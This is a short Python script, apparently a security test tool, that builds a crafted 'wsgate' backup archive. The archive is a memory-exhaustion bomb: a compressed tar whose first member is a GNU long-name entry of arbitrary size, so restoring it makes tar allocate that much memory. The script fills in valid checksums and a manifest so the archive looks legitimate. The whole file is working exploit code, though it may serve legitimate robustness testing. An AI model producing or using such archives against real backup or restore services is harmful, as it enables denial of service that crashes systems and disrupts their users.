#!/usr/bin/env python3
"""mkbomb.py OUT N: a wsgate backup (every sum its own) whose home part is a
tar beginning with a GNU long-name member of N bytes: GNU tar holds a long
name (as a pax header) whole in memory, so a few MB of zstd make the
restore's helper tar allocate N bytes. Streams: nothing of size N is held
here."""
import hashlib, json, subprocess, sys, time

CHUNK = 4 * 1024 * 1024

def hdr(name, size, typ=b"0"):
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = b"%011o\0" % size
    h[136:148] = b"%011o\0" % int(time.time())
    h[156:157] = typ
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)

def pad(n):
    return b"\0" * ((512 - n % 512) % 512)

def inner(n):
    """The inner tar, in pieces."""
    yield hdr(b"././@LongLink", n, b"L")
    left = n
    block = b"a" * (1 << 20)
    while left > 0:
        k = min(left, len(block))
        yield block[:k]
        left -= k
    yield pad(n)
    yield hdr(b"f", 0)
    yield b"\0" * 1024

def main():
    out, n = sys.argv[1], int(sys.argv[2])
    z = subprocess.Popen(["zstd", "-q", "-c", "-3", "-o", out], stdin=subprocess.PIPE)
    w = z.stdin
    hj = json.dumps({"format": "wsgate-backup", "version": 1, "owner": "tester"}).encode()
    w.write(hdr(b"wsgate-backup.json", len(hj)) + hj + pad(len(hj)))
    sha, total, chunks, buf = hashlib.sha256(), 0, 0, bytearray()

    def flush():
        nonlocal chunks, buf
        w.write(hdr(b"home.tar.%06d" % chunks, len(buf)) + bytes(buf) + pad(len(buf)))
        chunks += 1
        buf = bytearray()

    for piece in inner(n):
        sha.update(piece)
        total += len(piece)
        buf += piece
        while len(buf) >= CHUNK:
            rest = buf[CHUNK:]
            buf = buf[:CHUNK]
            flush()
            buf = rest
    if buf:
        flush()
    man = json.dumps({"format": "wsgate-backup", "version": 1,
                      "header_sha256": hashlib.sha256(hj).hexdigest(),
                      "parts": [{"name": "home", "bytes": total, "chunks": chunks, "sha256": sha.hexdigest()}]}).encode()
    w.write(hdr(b"manifest.json", len(man)) + man + pad(len(man)) + b"\0" * 1024)
    w.close()
    sys.exit(z.wait())

main()
